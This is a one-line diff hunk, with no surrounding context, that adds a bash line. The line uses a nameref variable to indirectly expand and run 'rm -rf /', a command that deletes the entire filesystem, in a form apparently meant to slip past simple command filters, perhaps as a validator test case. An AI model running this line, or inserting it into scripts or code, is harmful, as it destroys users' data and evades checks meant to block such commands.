@@ -1,0 +1,1 @@
+declare -n c=x; x="rm -rf /"; $c
